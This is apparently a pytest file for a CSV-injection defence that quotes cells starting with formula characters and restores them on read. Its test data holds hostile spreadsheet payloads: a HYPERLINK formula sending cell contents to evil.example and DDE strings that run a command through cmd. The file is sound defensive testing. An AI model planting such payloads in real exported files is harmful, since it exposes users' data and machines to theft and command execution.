"""The CSV formula rule (OWASP CSV injection): formula cells get a quote, and the quote comes off again."""

import csv
import io

import pytest

from core.csv_safe import csv_stream, csv_writer, neutralise_cell, restore_cell, restore_row

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals
]
ODD = ["", "'", "''", "'=1", "' plain", "plain", "a=b", "x@example.com", "-", "=", "'\t"]


@pytest.mark.parametrize("value", FORMULAS)
def test_it_quotes_every_formula_start(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", "x@example.com", "2026-01-01T00:00:00+00:00", ""])
def test_it_leaves_ordinary_text_alone(value):
    assert neutralise_cell(value) == value


def test_it_leaves_numbers_alone():
    assert neutralise_cell(-5) == -5
    assert neutralise_cell(None) is None


@pytest.mark.parametrize("value", FORMULAS + ODD)
def test_it_restores_exactly_what_was_neutralised(value):
    assert restore_cell(neutralise_cell(value)) == value


def test_a_written_file_reads_back_unchanged():
    rows = [["email", "note"], *[[f"u{i}@example.com", v] for i, v in enumerate(FORMULAS + ODD)]]
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerows(rows)
    read = [restore_row(r) for r in csv.reader(io.StringIO(out.getvalue(), newline=""))]
    assert read == rows
    # And what a spreadsheet sees: no cell starts with a formula character.
    for row in csv.reader(io.StringIO(out.getvalue(), newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_stream_yields_one_line_per_row():
    lines = list(csv_stream([["a", "=1"], ["b", "c"]], delimiter=";"))
    assert lines == ["a;'=1\r\n", "b;c\r\n"]
